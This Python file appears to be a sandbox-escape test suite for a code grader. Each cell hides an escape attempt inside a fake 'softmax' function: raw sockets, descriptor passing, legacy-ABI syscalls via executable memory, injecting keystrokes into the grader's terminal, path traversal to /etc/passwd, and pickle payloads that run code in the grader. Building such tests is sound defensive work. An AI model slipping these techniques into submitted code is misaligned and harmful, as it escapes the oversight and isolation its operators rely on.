# %% F11-sockets: talk to somebody
import socket
def softmax(x):
    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 40):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try: socket.socket(family, kind)
            except OSError: continue
            raise ValueError(f'SUCCEEDED {family} {kind}')
    return x

# %% F12-send-a-descriptor: hand a descriptor through the socket, or ask for one
import array, gc, socket
def softmax(x):
    worker = next(o for o in gc.get_objects() if type(o).__name__ == 'Worker')
    try: worker.sock.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))])
    except OSError: return x
    raise ValueError('SUCCEEDED')

# %% F13-old-interface: use the calls of another ABI
import ctypes, mmap, os
def softmax(x):
    if os.uname().machine != 'x86_64': return x
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex('b814000000cd80c3'))  # mov eax, 20 (getpid); int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    number = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    raise ValueError(f'SUCCEEDED {number}')

# %% F14-x32: use the numbers of the x32 ABI
import ctypes, os
def softmax(x):
    if os.uname().machine != 'x86_64': return x
    if ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 39)) > 0: raise ValueError('SUCCEEDED')
    return x

# %% F15-console: type into the teacher's terminal
import fcntl, os
def softmax(x):
    for fd in (0, 1, 2):
        try: fcntl.ioctl(fd, 0x5412, b'x')
        except OSError: continue
        raise ValueError('SUCCEEDED')
    for path in ('/dev/tty', '/dev/pts/0', '/dev/console'):
        try: os.open(path, os.O_RDWR)
        except OSError: continue
        raise ValueError('SUCCEEDED')
    return x

# %% F17-doors-of-the-host: have the host of a guest do or open something
import os, sys
def softmax(x):
    if sys.platform != 'wasi': return x
    import _host
    for asked in (b'', b'{}', bytes(1 << 20)):
        try: _host.call(asked)
        except OSError: continue
        raise ValueError('SUCCEEDED')
    for folder in (os.open('/usr', os.O_RDONLY), 0, 3, 4, -1, None):
        for path in ('../../etc', '../..//etc/passwd', 'local/../../..', '/etc/passwd', '<<folder>>', '<<folder>>/secret'):
            for how in (os.O_RDONLY, os.O_RDWR | os.O_CREAT):
                try: os.open(path, how, dir_fd=folder)
                except OSError: continue
                raise ValueError(f'SUCCEEDED {path}')
    return x

# %% F10-pickle: have the grader load a pickle => no value
import os, pickle
class P:
    def __reduce__(self): return (eval, ("open('/tmp/attack_was_here', 'w')",))
def softmax(x):
    for fd in range(3, 16):
        try: os.write(fd, pickle.dumps(P()))
        except OSError: pass
    return x

# %% F16-pickle-as-a-value: hide code in what crosses
import numpy as np
class P(np.ndarray):
    def __reduce__(self): return (exec, ("open('/tmp/attack_was_here', 'w')",))
    def tobytes(self, *a): return b'x'
class T(tuple):
    def __iter__(self): raise SystemExit
    def __len__(self): return 10 ** 9
def softmax(x): return T((x.view(P),))
